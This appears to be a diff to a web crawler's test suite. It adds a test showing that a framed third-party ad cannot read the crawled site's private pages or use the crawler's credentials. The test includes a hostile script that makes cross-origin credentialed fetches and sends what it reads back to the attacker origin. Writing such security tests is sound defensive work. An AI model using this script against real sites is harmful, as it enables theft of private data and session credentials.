@@ -239,6 +239,64 @@ it('reaches nothing inside, unless it is trusted', async () => {
   expect(urls.get(`${other.origin}/trusted.png`)).toMatchObject({ state: 'done', sha256: expect.any(String) });
 });
 
+/** What an advertisement in a frame may try with the site around it. */
+const hostile = (target: string) => `<script>
+  const at = (path, init) => fetch('${target}' + path, init).then((r) => r.text(), () => 'refused')
+    .then((read) => fetch('/read?' + path.slice(1) + '=' + read));
+  at('/account'); at('/open'); at('/public?credentialed', { credentials: 'include' });
+  fetch('/redirect').then((r) => r.text(), () => 'refused').then((read) => fetch('/read?redirect=' + read));
+  at('/simple', { method: 'POST', mode: 'no-cors', body: 'x' });
+  at('/unusual', { method: 'PUT', headers: { 'x-own': '1' }, body: 'x' });
+  onload = () => { const text = document.querySelector('#f').contentDocument?.body.textContent; fetch('/read?frame=' + text) };
+</script><img src="${target}/pixel.png"><iframe id=f src=/framed></iframe>`;
+
+it('gives documents of other sites neither the crawler’s credentials nor what only their own scripts may read', async () => {
+  other.become(({ path }) => {
+    if (path === '/ad') return page('Ad', hostile(site.origin));
+    if (path === '/redirect' || path === '/framed')
+      return { status: 302, headers: { Location: `${site.origin}/account` } };
+    return { body: '' };
+  });
+  site.become(({ path, headers }) => {
+    const account = headers.authorization === 'Bearer crawler' ? 'private' : 'nothing';
+    if (path === '/')
+      return {
+        ...page('Start', `<iframe src="${other.origin}/ad"></iframe>`, '<script>fetch("/own")</script>'),
+        headers: { 'Content-Type': 'text/html', 'Set-Cookie': 'session=1; Path=/' },
+      };
+    if (path === '/open' || path.startsWith('/public'))
+      return { headers: { 'Access-Control-Allow-Origin': '*' }, body: account };
+    return { headers: { 'Content-Type': 'text/html' }, body: account };
+  });
+  const settings = {
+    browser_mode: true,
+    browser_config: { wait_for_network_idle: 4_000 },
+    headers: { Authorization: 'Bearer crawler' },
+  };
+  const run = await workThrough(app, await queue(app, await makeCrawler(app, site.host, settings)));
+  expect(run).toMatchObject({ status: 'completed' });
+  const read = other
+    .paths()
+    .filter((path) => path.startsWith('/read?'))
+    .sort();
+  expect(read).toEqual([
+    '/read?account=refused',
+    '/read?frame=',
+    '/read?open=nothing',
+    '/read?public?credentialed=refused',
+    '/read?redirect=refused',
+    '/read?simple=',
+    '/read?unusual=refused',
+  ]);
+  const credentials = new Map(
+    site.log.map(({ path, headers }) => [path, `${headers.authorization} ${headers.cookie}`]),
+  );
+  expect(credentials.get('/own')).toBe('Bearer crawler session=1');
+  for (const path of ['/open', '/simple', '/pixel.png', '/public?credentialed'])
+    expect(credentials.get(path), path).toBe('undefined undefined');
+  expect(site.log.filter(({ path }) => path === '/unusual').map(({ method }) => method)).toEqual(['OPTIONS']);
+});
+
 it('ends pages that do not come to rest, and goes on', async () => {
   site.become(({ path }) => {
     if (path === '/') return page('Start', links(['/spins', '/asks', '/good']));
